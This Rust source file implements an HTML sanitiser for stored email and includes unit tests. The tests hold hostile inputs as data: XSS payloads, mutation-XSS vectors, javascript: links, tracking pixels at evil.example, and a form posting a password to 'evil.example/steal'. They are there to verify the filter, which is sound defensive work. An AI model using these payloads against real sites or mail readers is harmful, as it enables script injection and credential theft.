//! Sanitising the HTML part of a mail before it is stored for display.
//!
//! Mail HTML is hostile by default: scripts, tracking pixels, remote stylesheets, forms that
//! phish. We keep the text structure (paragraphs, lists, tables, emphasis, links) and drop
//! anything that could run code or load a resource. In particular **every `<img>` is dropped**:
//! remote images are trackers, `cid:` images cannot be resolved by the read view, and inline
//! `data:` images are rare in real mail, so keeping none is the simplest rule that is safe.
//! The read view's Content-Security-Policy is a second line of defence, not the first.

use std::collections::HashSet;
use std::sync::OnceLock;

use ammonia::{Builder, UrlRelative};

use crate::core::html_shape::TooComplex;

/// Elements removed together with everything inside them (their text would be noise or code).
const DROP_WITH_CONTENT: &[&str] = &[
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "noscript",
    "noembed", "noframes", "template", "svg", "math", "title", "textarea", "select", "xmp", "head",
];

/// Elements removed that the default allow-list would keep: images (see module doc), image maps.
const DROP_TAGS: &[&str] = &["img", "map", "area"];

/// The only schemes a link may use.
const LINK_SCHEMES: &[&str] = &["http", "https", "mailto"];

fn builder() -> &'static Builder<'static> {
    // Built once: the allow-lists are fixed, and Builder is Sync.
    static BUILDER: OnceLock<Builder<'static>> = OnceLock::new();
    BUILDER.get_or_init(|| {
        let mut b = Builder::default();
        b.rm_tags(DROP_TAGS)
            .clean_content_tags(DROP_WITH_CONTENT.iter().copied().collect::<HashSet<_>>())
            .url_schemes(LINK_SCHEMES.iter().copied().collect::<HashSet<_>>())
            // Relative URLs would resolve against the read view itself (or, as `//host`,
            // against any host): no use in a mail, so drop them.
            .url_relative(UrlRelative::Deny)
            .link_rel(Some("noopener noreferrer nofollow"))
            .strip_comments(true);
        // `cite` attributes are URLs nobody follows; keep the element, drop the attribute.
        b.rm_tag_attributes("blockquote", &["cite"])
            .rm_tag_attributes("q", &["cite"])
            .rm_tag_attributes("del", &["cite"])
            .rm_tag_attributes("ins", &["cite"]);
        b
    })
}

/// The HTML part as the read view may show it: sanitised, or not kept at all when it is beyond
/// the bounds of [`crate::core::html_shape`] (then the reason is kept instead, and readers
/// see the text part).
pub fn sanitize_bounded(html: &str) -> Result<String, TooComplex> {
    crate::core::html_shape::check(html)?;
    Ok(sanitize_html(html))
}

/// Sanitise mail HTML for display: no script, no styles (elements or attributes), no images,
/// no forms, frames or embedded objects, no resource-loading attributes; links keep `href` only
/// for http, https and mailto, lose `target`, and get `rel="noopener noreferrer nofollow"`.
pub fn sanitize_html(html: &str) -> String {
    builder().clean(html).to_string()
}

#[cfg(test)]
mod tests {
    use super::sanitize_html;

    /// Assert none of `needles` survives (case-insensitive).
    fn assert_absent(out: &str, needles: &[&str]) {
        let lower = out.to_ascii_lowercase();
        for n in needles {
            assert!(
                !lower.contains(&n.to_ascii_lowercase()),
                "{n:?} survived in {out:?}"
            );
        }
    }

    #[test]
    fn keeps_plain_structure() {
        let out = sanitize_html("<p>Hello <b>team</b></p><ul><li>one</li></ul>");
        assert_eq!(out, "<p>Hello <b>team</b></p><ul><li>one</li></ul>");
    }

    #[test]
    fn removes_script_with_content() {
        let out = sanitize_html("<p>hi</p><script>alert(1)</script><SCRIPT src=x.js></SCRIPT>");
        assert_eq!(out, "<p>hi</p>");
    }

    #[test]
    fn removes_event_handlers() {
        let out = sanitize_html(
            r#"<p onclick="x()">a</p><b onmouseover=alert(1)>b</b><img src=x onerror=alert(1)>"#,
        );
        assert_absent(
            &out,
            &["onclick", "onmouseover", "onerror", "alert", "<img"],
        );
        assert!(out.contains("<p>a</p>"));
    }

    #[test]
    fn javascript_and_data_links_lose_href() {
        for href in [
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            " javascript:alert(1)",
            "java&#x09;script:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "vbscript:msgbox",
            "//evil.example/x",
            "/relative",
            "ftp://files.example/",
        ] {
            let out = sanitize_html(&format!(r#"<a href="{href}">x</a>"#));
            assert_absent(&out, &["href", "script", "evil"]);
        }
    }

    #[test]
    fn good_links_keep_href_and_get_rel_without_target() {
        let out = sanitize_html(
            r#"<a href="https://example.com/a?b=1" target="_blank" rel="opener">x</a>"#,
        );
        assert_eq!(
            out,
            r#"<a href="https://example.com/a?b=1" rel="noopener noreferrer nofollow">x</a>"#
        );
        let out = sanitize_html(r#"<a href="mailto:ann@corp.example">ann</a>"#);
        assert!(out.contains(r#"href="mailto:ann@corp.example""#), "{out}");
        let out = sanitize_html(r#"<a href="http://example.com/">x</a>"#);
        assert!(out.contains(r#"href="http://example.com/""#), "{out}");
    }

    #[test]
    fn removes_style_elements_and_attributes() {
        let out = sanitize_html(
            "<style>body{background:url(http://evil.example/t.png)}</style>\
             <p style=\"background-image:url('http://evil.example/p.png')\">x</p>\
             <div style=\"color:red\">y</div>",
        );
        assert_absent(&out, &["<style", "style=", "url(", "evil", "background"]);
        assert!(
            out.contains("<p>x</p>") && out.contains("<div>y</div>"),
            "{out}"
        );
    }

    #[test]
    fn drops_all_images() {
        for img in [
            r#"<img src="http://evil.example/x.png">"#,
            r#"<img src="https://evil.example/x.png" width=1 height=1>"#,
            r#"<img src="cid:part1@corp">"#,
            r#"<img src="data:image/png;base64,AAAA">"#,
            r#"<img srcset="http://evil.example/x.png 2x">"#,
            r#"<picture><source srcset="http://evil.example/x.png"></picture>"#,
        ] {
            let out = sanitize_html(img);
            assert_absent(&out, &["<img", "src", "evil", "<source", "<picture"]);
        }
    }

    #[test]
    fn drops_resource_loading_attributes() {
        let out = sanitize_html(
            r#"<table background="http://evil.example/bg.png"><tr><td background="http://evil.example/c.png">x</td></tr></table><body background="http://evil.example/b.png"><video poster="http://evil.example/v.png"></video>"#,
        );
        assert_absent(&out, &["background", "evil", "poster", "<video"]);
        assert!(out.contains("<td>x</td>"), "{out}");
    }

    #[test]
    fn svg_with_script_is_gone() {
        let out = sanitize_html(
            r#"<svg><script>alert(1)</script><image href="http://evil.example/s.png"/></svg>ok"#,
        );
        assert_absent(&out, &["svg", "script", "alert", "evil"]);
        assert_eq!(out, "ok");
    }

    #[test]
    fn base_meta_link_are_gone() {
        let out = sanitize_html(
            r#"<html><head><base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/"><link rel="stylesheet" href="http://evil.example/s.css"></head><body><p>body</p></body></html>"#,
        );
        assert_absent(
            &out,
            &["<base", "<meta", "<link", "refresh", "evil", "stylesheet"],
        );
        assert!(out.contains("<p>body</p>"), "{out}");
    }

    #[test]
    fn forms_frames_objects_are_gone() {
        let out = sanitize_html(
            r#"<form action="http://evil.example/steal"><input name=pw type=password><button formaction="http://evil.example">Go</button></form><iframe src="http://evil.example/"></iframe><object data="http://evil.example/o"></object><embed src="http://evil.example/e">"#,
        );
        assert_absent(
            &out,
            &[
                "<form", "<input", "<button", "<iframe", "<object", "<embed", "evil", "action",
            ],
        );
    }

    #[test]
    fn malformed_and_nested_markup() {
        for nasty in [
            "<scr<script>ipt>alert(1)</script>",
            "<<script>script>alert(1)<</script>/script>",
            "<p <script>alert(1)</script>>x</p>",
            "<div><p><b><i>unclosed",
            "<img/src=x/onerror=alert(1)>",
            "<a href=\"javascript:alert(1)\"<b>x</b>",
            "<!--<script>alert(1)</script>-->",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
        ] {
            let out = sanitize_html(nasty);
            // Escaped text like `&lt;script&gt;` is harmless; live tags and handlers are not.
            assert_absent(
                &out,
                &[
                    "<script",
                    "<img",
                    "onerror=",
                    "javascript:",
                    "<style",
                    "<svg",
                    "<math",
                ],
            );
        }
    }

    #[test]
    fn bounded_refuses_hostile_nesting() {
        let deep = "<div>".repeat(100_000) + "x";
        let err = super::sanitize_bounded(&deep).unwrap_err();
        assert!(err.to_string().contains("100000 elements deep"), "{err}");
        assert_eq!(super::sanitize_bounded("<p>x</p>").unwrap(), "<p>x</p>");
    }

    #[test]
    fn output_is_stable_when_sanitised_twice() {
        let once = sanitize_html(
            r#"<p>a <a href="https://x.example" target=_blank>l</a></p><style>x</style>"#,
        );
        assert_eq!(sanitize_html(&once), once);
    }
}
